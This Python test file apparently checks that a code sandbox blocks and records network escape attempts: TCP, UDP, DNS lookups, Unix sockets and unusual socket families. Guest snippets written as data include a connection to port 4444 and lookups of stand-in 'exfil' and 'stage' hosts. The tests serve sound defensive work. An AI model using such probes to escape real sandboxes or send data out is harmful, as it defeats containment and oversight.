"""Out of the guest by the network: the listener stands on loopback, the control reaches it, the guest does not."""

from __future__ import annotations

import secrets
import socket

import pytest

from tests.sandbox.attack import attack, control, printed, tried

pytestmark = pytest.mark.xdist_group("sandbox")


def test_tcp(guest, tmp_path):
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(5)
        port = server.getsockname()[1]
        code = f'print(tried(lambda: socket.create_connection(("127.0.0.1", {port}), 2).close()))'
        assert control(code, tmp_path) == "worked"
        server.accept()[0].close()
        done = attack(guest, code)
        assert printed(done) == "ENETUNREACH"
        assert tried(done, "connect") == [f"127.0.0.1:{port}"]
        server.settimeout(0.05)
        with pytest.raises(TimeoutError):
            server.accept()


def test_tcp_version_6_and_far_addresses(guest):
    code = """
    print(tried(socket.socket(socket.AF_INET6).connect, ("2001:db8::1", 443)))
    print(tried(socket.socket().connect, ("198.51.100.7", 4444)))
    """
    done = attack(guest, code)
    assert printed(done).split() == ["ENETUNREACH"] * 2
    assert tried(done, "connect") == ["[2001:db8::1]:443", "198.51.100.7:4444"]


def test_udp_by_every_call_that_sends(guest, tmp_path):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.settimeout(5)
        address = server.getsockname()
        code = f"""
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        print(tried(s.sendto, b"out", {address!r}), tried(s.sendmsg, [b"out"], [], 0, {address!r}))
        """
        assert control(code, tmp_path) == "worked worked"
        assert server.recv(10) == b"out"
        assert server.recv(10) == b"out"
        done = attack(guest, code)
        assert printed(done) == "ENETUNREACH ENETUNREACH"
        assert tried(done, "send") == [f"127.0.0.1:{address[1]}"] * 2
        server.settimeout(0.05)
        with pytest.raises(TimeoutError):
            server.recv(10)


def test_a_name_is_not_looked_up_but_recorded(guest):
    done = attack(guest, 'socket.getaddrinfo("exfil.example.org", 443)')
    assert "exfil.example.org" in tried(done, "dns")
    assert any(a.target == "socket.getaddrinfo" for a in done.attempts)


def test_a_name_in_a_packet_of_ones_own_is_recorded(guest):
    code = """
    query = bytes.fromhex("123401000001000000000000") + b"\\x05stage\\x07example\\x03org\\x00\\x00\\x10\\x00\\x01"
    print(tried(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, query, ("198.51.100.53", 53)))
    """
    done = attack(guest, code)
    assert tried(done, "dns") == ["stage.example.org"]


def test_unix_sockets_by_path_and_by_name(guest, tmp_path):
    name = f"assay-test-{secrets.token_hex(4)}"
    path = tmp_path / "s"
    with socket.socket(socket.AF_UNIX) as by_path, socket.socket(socket.AF_UNIX) as by_name:
        by_path.bind(str(path))
        by_path.listen(1)
        by_name.bind(f"\0{name}")
        by_name.listen(1)
        code = f"""
        for address in ({str(path)!r}, "\\0{name}"):
            print(tried(socket.socket(socket.AF_UNIX).connect, address))
        """
        assert control(code, tmp_path).split() == ["worked", "worked"]
        done = attack(guest, code)
    assert printed(done).split() == ["ENETUNREACH"] * 2
    assert tried(done, "connect") == [f"unix:{path}", f"unix:@{name}"]


@pytest.mark.parametrize(
    ("family", "number"), [("AF_VSOCK", 40), ("AF_NETLINK", 16), ("AF_PACKET", 17), ("AF_ALG", 38)]
)
def test_families_that_no_namespace_holds(guest, family, number):
    done = attack(guest, f"print(tried(socket.socket, socket.{family}, socket.SOCK_DGRAM))")
    assert printed(done) == "EAFNOSUPPORT"
    assert tried(done, "connect") == [f"socket of family {number}"]


def test_nothing_listens_in_a_guest(guest, tmp_path):
    code = 'print(tried(lambda: socket.socket().bind(("127.0.0.1", 0))))'
    assert control(code, tmp_path) == "worked"
    done = attack(guest, code)
    assert printed(done) == "EACCES"
    assert tried(done, "bind") == ["127.0.0.1:0"]
